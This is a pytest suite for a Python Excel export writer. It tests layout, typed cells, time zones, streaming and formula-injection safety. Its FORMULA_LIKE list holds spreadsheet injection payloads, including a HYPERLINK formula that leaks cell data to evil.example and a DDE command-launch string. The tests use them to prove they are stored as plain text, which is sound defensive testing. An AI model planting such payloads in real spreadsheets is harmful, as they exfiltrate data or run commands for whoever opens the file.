"""The one Excel writer: layout, real cell types, formula safety and streaming.

Files are read back with openpyxl (and, where installed, converted by LibreOffice), so
the tests check what a spreadsheet program gets, not what the writer meant to send.
"""

from __future__ import annotations

import ast
import csv
import io
import os
import shutil
import subprocess
import sys
import tracemalloc
import weakref
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from openpyxl.workbook.workbook import Workbook as LoadedWorkbook
from openpyxl.worksheet._writer import ALL_TEMP_FILES

from homeoffice.exports import xlsx
from homeoffice.exports.xlsx import Column, Sheet, is_formula_like, write_workbook

#: values a spreadsheet would run as formulas (or dial, or sum) if written naively
FORMULA_LIKE = [
    "=1+1",
    "+49 170 1234567",
    "-5",
    "@SUM(A1)",
    "\tx",
    "\rx",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "=cmd|' /C calc'!A0",
]

ABOUT = [
    ("Filter", "Amt: Bürgerbüro"),
    ("Exportiert am", "24.11.2026 10:15"),
    ("Exportiert von", "Hanna Personal"),
]

COLUMNS = [
    Column("name", "Name"),
    Column("staff_number", "Personalnummer"),
    Column("start", "Beginn", "date"),
    Column("expires", "Zugang bis", "datetime"),
    Column("devices", "Geräte", "int"),
    Column("vpn", "VPN", "bool"),
]


def _row(number: int) -> dict[str, Any]:
    return {
        "name": f"Person {number}",
        "staff_number": f"{number:06d}",
        "start": date(2026, 1, 1) + timedelta(days=number % 365),
        "expires": datetime(2026, 12, 31, 15, 30, tzinfo=UTC),
        "devices": number % 3,
        "vpn": number % 2 == 0,
    }


def _write(sheets: list[Sheet], **kwargs: Any) -> LoadedWorkbook:
    """Write to memory and read the file back, as a spreadsheet program would."""
    buffer = BytesIO()
    write_workbook(buffer, sheets, about=kwargs.pop("about", ABOUT), **kwargs)
    return load_workbook(BytesIO(buffer.getvalue()))


def _roster(rows: Any, columns: list[Column] | None = None) -> Sheet:
    return Sheet("Geräte", columns or COLUMNS, rows)


def test_header_row_is_bold_and_frozen_with_an_autofilter_over_the_data() -> None:
    sheet = _write([_roster([_row(n) for n in range(5)])])["Geräte"]

    headers = [cell for cell in sheet[1]]
    assert [cell.value for cell in headers] == [column.header for column in COLUMNS]
    assert all(cell.font.b for cell in headers)
    assert not any(cell.font.b for cell in sheet[2])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F6"
    assert sheet.print_title_rows == "$1:$1"


def test_autofilter_is_known_to_excel_as_a_defined_name() -> None:
    """Excel keeps the filter range as the hidden name _xlnm._FilterDatabase too."""
    buffer = BytesIO()
    write_workbook(buffer, [_roster([_row(1), _row(2)])], about=ABOUT)
    with zipfile.ZipFile(buffer) as archive:
        workbook_xml = archive.read("xl/workbook.xml").decode()
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "_xlnm._FilterDatabase" in workbook_xml
    assert "'Geräte'!$A$1:$F$3" in workbook_xml
    assert '<autoFilter ref="A1:F3"' in sheet_xml
    assert 'state="frozen"' in sheet_xml


def test_empty_roster_keeps_header_filter_and_about_sheet() -> None:
    workbook = _write([_roster([])])
    assert workbook["Geräte"].auto_filter.ref == "A1:F1"
    assert workbook["Geräte"].max_row == 1
    assert workbook.sheetnames == ["Geräte", "Export"]


def test_column_widths_fit_header_and_values_and_follow_hints() -> None:
    columns = [
        Column("name", "Name"),
        Column("note", "Bemerkung"),
        Column("unit", "Organisationseinheit"),
        Column("tag", "Inventar", width=25),
        Column("start", "Ab", "date"),
    ]
    rows = [
        {
            "name": "Dr. Friederike Müller-Lüdenscheidt",
            "note": "x" * 500,
            "unit": "Amt 32",
            "tag": "NB-1",
            "start": date(2026, 1, 1),
        }
    ]
    widths = _write([Sheet("Liste", columns, rows)])["Liste"].column_dimensions

    assert widths["A"].width >= len("Dr. Friederike Müller-Lüdenscheidt")
    assert widths["B"].width == xlsx.MAX_WIDTH
    assert widths["C"].width >= len("Organisationseinheit") + 2
    assert widths["D"].width == 25
    assert widths["E"].width >= len("31.12.2026")


def test_dates_are_date_cells_with_german_formats() -> None:
    rows = [_row(0)]
    sheet = _write([_roster(rows)])["Geräte"]

    start, expires = sheet["C2"], sheet["D2"]
    assert start.is_date and start.number_format == "DD.MM.YYYY"
    assert start.value == datetime(2026, 1, 1)
    assert expires.is_date and expires.number_format == "DD.MM.YYYY HH:MM"


def test_aware_datetimes_are_written_in_berlin_time() -> None:
    columns = [Column("at", "Zeitpunkt", "datetime"), Column("day", "Tag", "date")]
    rows = [
        # summer time (UTC+2), winter time (UTC+1), and a non-UTC source zone
        (datetime(2026, 7, 1, 8, 0, tzinfo=UTC), datetime(2026, 7, 1, 23, 30, tzinfo=UTC)),
        (datetime(2026, 1, 15, 8, 0, tzinfo=UTC), None),
        (datetime(2026, 1, 15, 8, 0, tzinfo=timezone(timedelta(hours=-5))), None),
    ]
    sheet = _write([Sheet("Zeiten", columns, rows)])["Zeiten"]

    assert sheet["A2"].value == datetime(2026, 7, 1, 10, 0)
    assert sheet["B2"].value == datetime(2026, 7, 2)  # 23:30 UTC is the next day in Berlin
    assert sheet["A3"].value == datetime(2026, 1, 15, 9, 0)
    assert sheet["A4"].value == datetime(2026, 1, 15, 14, 0)


def test_naive_datetimes_are_refused_with_the_place_named() -> None:
    columns = [Column("name", "Name"), Column("at", "Zeitpunkt", "datetime")]
    with pytest.raises(ValueError, match=r"'Zeiten', row 3, column 'at'.*naive"):
        _write([Sheet("Zeiten", columns, [("a", None), ("b", datetime(2026, 1, 1, 8, 0))])])


def test_numbers_and_bools_are_real_values_and_none_is_empty() -> None:
    columns = [
        Column("count", "Anzahl", "int"),
        Column("amount", "Betrag", "number"),
        Column("flag", "VPN", "bool"),
        Column("note", "Notiz"),
    ]
    rows = [(3, 12.5, True, None), (None, Decimal("7.25"), False, ""), (0, None, None, 42)]
    sheet = _write([Sheet("Werte", columns, rows)])["Werte"]

    assert (sheet["A2"].value, sheet["A2"].data_type) == (3, "n")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (12.5, "n")
    assert (sheet["C2"].value, sheet["C2"].data_type) == (True, "b")
    assert (sheet["C3"].value, sheet["C3"].data_type) == (False, "b")
    assert sheet["B3"].value == 7.25
    assert sheet["D2"].value is None and sheet["A3"].value is None
    assert sheet["D3"].value is None  # an empty string is an empty cell
    assert (sheet["D4"].value, sheet["D4"].data_type) == ("42", "s")  # text column: text


@pytest.mark.parametrize(
    ("kind", "value", "error"),
    [
        ("int", "7", TypeError),
        ("int", True, TypeError),
        ("int", 7.0, TypeError),
        ("number", "7", TypeError),
        ("number", float("nan"), ValueError),
        ("number", float("inf"), ValueError),
        ("bool", "ja", TypeError),
        ("date", "2026-01-01", TypeError),
        ("datetime", "2026-01-01 08:00", TypeError),
    ],
)
def test_values_of_the_wrong_type_are_refused(kind: str, value: Any, error: type) -> None:
    sheet = Sheet("Werte", [Column("x", "X", kind)], [(value,)])  # type: ignore[arg-type]
    with pytest.raises(error, match=r"'Werte', row 2, column 'x'"):
        write_workbook(BytesIO(), [sheet], about=[])


def test_unknown_column_kind_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown kind"):
        Column("x", "X", "currency")  # type: ignore[arg-type]


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_formula_like_text_is_a_text_cell_with_the_exact_value(value: str) -> None:
    columns = [Column("name", "Name"), Column("note", "Notiz")]
    sheet = _write([Sheet("Notizen", columns, [("Ada", value)])])["Notizen"]

    cell = sheet["B2"]
    assert cell.data_type == "s"
    # what Excel shows; openpyxl hands back OOXML's escape for CR (_x000D_) undecoded
    assert unescape(cell.value) == value
    assert cell.value == value or "\r" in value
    assert cell.quotePrefix  # Excel keeps it as text even when the cell is edited
    assert not sheet["A2"].quotePrefix


def test_no_formula_reaches_the_file() -> None:
    """The stored XML has no <f> element at all: no spreadsheet can evaluate anything."""
    columns = [Column("note", "=Notiz")]
    buffer = BytesIO()
    write_workbook(
        buffer,
        [Sheet("Notizen", columns, [(value,) for value in FORMULA_LIKE])],
        about=[("=Filter", "=Amt")],
    )
    with zipfile.ZipFile(buffer) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode()
                assert "<f " not in archive.read(name).decode()


def test_formula_like_headers_and_about_values_are_text() -> None:
    workbook = _write(
        [Sheet("Notizen", [Column("note", "=Notiz")], [("ok",)])],
        about=[("Filter", "=Amt"), ("@Von", "-Hanna")],
    )
    header = workbook["Notizen"]["A1"]
    assert (header.value, header.data_type, header.font.b) == ("=Notiz", "s", True)
    about = workbook["Export"]
    cells = [(cell.value, cell.data_type) for row in about.iter_rows() for cell in row]
    assert cells == [("Filter", "s"), ("=Amt", "s"), ("@Von", "s"), ("-Hanna", "s")]
    assert about["B1"].quotePrefix and about["A2"].quotePrefix and about["B2"].quotePrefix


def test_error_codes_and_ordinary_text_stay_text() -> None:
    columns = [Column("note", "Notiz")]
    rows = [("#N/A",), ("#DIV/0!",), ("Müller; Straße 1",), ("1.5",), ("TRUE",), ("'quoted",)]
    sheet = _write([Sheet("Text", columns, rows)])["Text"]

    values = [(cell.value, cell.data_type) for cell in sheet["A"][1:]]
    assert values == [(row[0], "s") for row in rows]
    assert not sheet["A4"].quotePrefix  # ordinary text is left unstyled


def test_text_that_looks_like_an_ooxml_escape_is_shown_as_typed() -> None:
    """Excel decodes _xHHHH_ in strings: a note "_x003D_1+1" would show as "=1+1", and
    a CR would turn into LF in any XML parser. Both are escaped as Excel escapes them."""
    rows = [("_x003D_1+1",), ("Zeile 1\r\nZeile 2",), ("snake_x_case_x1234",)]
    buffer = BytesIO()
    write_workbook(buffer, [Sheet("Text", [Column("note", "Notiz")], rows)], about=[])
    with zipfile.ZipFile(buffer) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "_x005F_x003D_1+1" in sheet_xml
    assert "Zeile 1_x000D_\nZeile 2" in sheet_xml

    sheet = load_workbook(BytesIO(buffer.getvalue()))["Text"]
    assert [unescape(cell.value) for cell in sheet["A"][1:]] == [row[0] for row in rows]
    assert sheet["A4"].value == "snake_x_case_x1234"  # not an escape: left alone


def test_control_characters_an_xlsx_cannot_hold_are_replaced_not_fatal() -> None:
    sheet = _write([Sheet("Text", [Column("note", "Notiz")], [("a\x00b\x1bc",)])])["Text"]
    assert sheet["A2"].value == "a\ufffdb\ufffdc"


def test_is_formula_like() -> None:
    assert all(is_formula_like(value) for value in FORMULA_LIKE)
    assert not any(is_formula_like(value) for value in ["", "Müller", " =1", "1-2", "a@b.de"])


def test_about_sheet_comes_last_and_holds_the_pairs() -> None:
    workbook = _write([_roster([_row(1)]), Sheet("VPN", [Column("n", "Name")], [("x",)])])

    assert workbook.sheetnames == ["Geräte", "VPN", "Export"]
    about = workbook["Export"]
    assert [(a.value, b.value) for a, b in about.iter_rows()] == ABOUT
    assert all(row[0].font.b for row in about.iter_rows())
    assert about.column_dimensions["B"].width >= len("Amt: Bürgerbüro")


def test_about_sheet_title_can_be_chosen() -> None:
    workbook = _write([_roster([])], about_title="Über diesen Export")
    assert workbook.sheetnames[-1] == "Über diesen Export"


def test_sheet_titles_are_made_valid_and_unique() -> None:
    long_title = "Rückgaben von Geräten im Zeitraum 01/2026 bis 12/2026 [alle Ämter]"
    workbook = _write(
        [
            Sheet(long_title, [Column("n", "N")], []),
            Sheet("export", [Column("n", "N")], []),
        ]
    )
    first, second, about = workbook.sheetnames
    assert len(first) <= 31 and not set("[]:*?/\\") & set(first)
    assert first.startswith("Rückgaben von Geräten")
    assert second == "export"
    assert about == "Export (2)"


def test_rows_may_be_mappings_sequences_or_a_generator() -> None:
    def people() -> Iterator[tuple[Any, ...]]:
        for number in range(3):
            yield tuple(_row(number).values())

    sheet = _write([_roster(people())])["Geräte"]
    assert [cell.value for cell in sheet["A"][1:]] == ["Person 0", "Person 1", "Person 2"]
    assert sheet["B2"].value == "000000"  # staff numbers keep their zeros as text


def test_row_shape_errors_name_the_row() -> None:
    with pytest.raises(KeyError, match=r"row 3: no value for 'vpn'"):
        _write([_roster([_row(1), {k: v for k, v in _row(2).items() if k != "vpn"}])])
    with pytest.raises(ValueError, match=r"row 2: 2 values for 6 columns"):
        _write([_roster([("a", "b")])])
    with pytest.raises(TypeError, match="mapping or a sequence"):
        _write([_roster(["a string is not a row"])])


class _Row(dict):
    """A roster row that can be watched with a weak reference."""


def test_20000_rows_stream_and_are_let_go_as_they_are_written() -> None:
    """The rows are a generator, written as they come and never held together: by the
    time a row is produced, the rows from a few rows back are gone from memory (only
    the first ``WIDTH_SAMPLE_ROWS``, sampled for the column widths, are held briefly)."""
    rows = 20_000
    watched: list[weakref.ref[_Row]] = []
    held_back: list[int] = []

    def people() -> Iterator[_Row]:
        for number in range(rows):
            if number > xlsx.WIDTH_SAMPLE_ROWS + 2:
                if watched[number - 3]() is not None:
                    held_back.append(number - 3)
            row = _Row(_row(number))
            watched.append(weakref.ref(row))
            yield row

    buffer = BytesIO()
    write_workbook(buffer, [_roster(people())], about=ABOUT)

    assert len(watched) == rows
    assert held_back == []
    workbook = load_workbook(BytesIO(buffer.getvalue()), read_only=True)
    names = [row[0] for row in workbook["Geräte"].iter_rows(values_only=True)]
    workbook.close()
    assert len(names) == rows + 1
    assert names[-1] == f"Person {rows - 1}"
    with zipfile.ZipFile(buffer) as archive:
        assert '<autoFilter ref="A1:F20001"' in archive.read("xl/worksheets/sheet1.xml").decode()


def test_memory_stays_flat_as_the_roster_grows() -> None:
    """Python's peak allocation for 4,000 rows is about that for 1,000: the rows do not
    pile up anywhere (tracemalloc slows writing down, hence the small sizes)."""

    def peak(rows: int) -> int:
        tracemalloc.start()
        try:
            write_workbook(BytesIO(), [_roster(_row(n) for n in range(rows))], about=ABOUT)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small, large = peak(1_000), peak(4_000)
    assert large < small * 1.5 + 256 * 1024, f"{small / 1e6:.2f} MB -> {large / 1e6:.2f} MB"


def test_path_target_is_written_whole(tmp_path: Path) -> None:
    target = tmp_path / "geraete.xlsx"
    write_workbook(str(target), [_roster([_row(1)])], about=ABOUT)
    assert load_workbook(target)["Geräte"]["A2"].value == "Person 1"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["geraete.xlsx"]


def test_a_failed_export_leaves_no_file_and_no_temporary_files(tmp_path: Path) -> None:
    """A generator that fails half-way (database gone) leaves nothing behind: no target
    file, and none of openpyxl's temporary sheet files with roster data in /tmp."""

    def people() -> Iterator[dict[str, Any]]:
        for number in range(500):
            yield _row(number)
        raise RuntimeError("database went away")

    before = list(ALL_TEMP_FILES)
    target = tmp_path / "geraete.xlsx"
    with pytest.raises(RuntimeError, match="database went away"):
        write_workbook(target, [_roster([_row(0)]), _roster(people())], about=ABOUT)

    assert list(tmp_path.iterdir()) == []
    assert ALL_TEMP_FILES == before
    assert not [path for path in before if not os.path.exists(path)]


def test_the_writer_does_not_need_flask() -> None:
    """Views, the CLI and jobs share it: the module imports only the standard library
    and openpyxl, and runs in a process where Flask cannot be imported."""
    source = Path(xlsx.__file__).read_text(encoding="utf-8")
    imported = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            imported.update(alias.name.split(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    assert imported <= set(sys.stdlib_module_names) | {"openpyxl"}

    script = (
        "import importlib.util, io, sys\n"
        "sys.modules['flask'] = None\n"
        f"spec = importlib.util.spec_from_file_location('xlsx', {xlsx.__file__!r})\n"
        "module = importlib.util.module_from_spec(spec)\n"
        "sys.modules['xlsx'] = module\n"
        "spec.loader.exec_module(module)\n"
        "sheet = module.Sheet('S', [module.Column('a', 'A')], [('=1',)])\n"
        "module.write_workbook(io.BytesIO(), [sheet], about=[('Filter', 'alle')])\n"
    )
    subprocess.run([sys.executable, "-c", script], check=True, timeout=60)


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(
    _soffice() is None,
    reason="LibreOffice (soffice) is not installed; optional cross-check of formula safety",
)
def test_libreoffice_shows_formula_like_values_literally(tmp_path: Path) -> None:
    """LibreOffice converts the file to CSV; had it read a formula, the CSV would hold
    its result (2, an error, a hyperlink text) instead of the literal text."""
    source = tmp_path / "notizen.xlsx"
    columns = [Column("name", "Name"), Column("note", "Notiz"), Column("count", "Anzahl", "int")]
    write_workbook(
        source,
        [Sheet("Notizen", columns, [("Ada", value, -5) for value in FORMULA_LIKE])],
        about=ABOUT,
    )
    profile = (tmp_path / "profile").as_uri()
    # UTF-8, comma, double quotes, and "quote all text cells": text and numbers differ
    csv_filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false,false"
    subprocess.run(
        [
            _soffice() or "soffice",
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            csv_filter,
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        timeout=180,
        capture_output=True,
    )
    with open(tmp_path / "notizen.csv", encoding="utf-8", newline="") as exported:
        raw = exported.read()
    rows = list(csv.reader(io.StringIO(raw, newline="")))

    notes = [row[1] for row in rows[1:]]
    for value, note in zip(FORMULA_LIKE, notes, strict=True):
        if value.isprintable():
            assert note == value
            assert '"' + value.replace('"', '""') + '"' in raw  # quoted: a text cell
        else:
            # tab and CR survive as text; CSV line handling may normalise the CR
            assert note.lstrip("\t\r\n") == "x"
    assert all(row[2] == "-5" for row in rows[1:])
    assert ",-5\n" in raw or ",-5\r\n" in raw  # the real number is not quoted
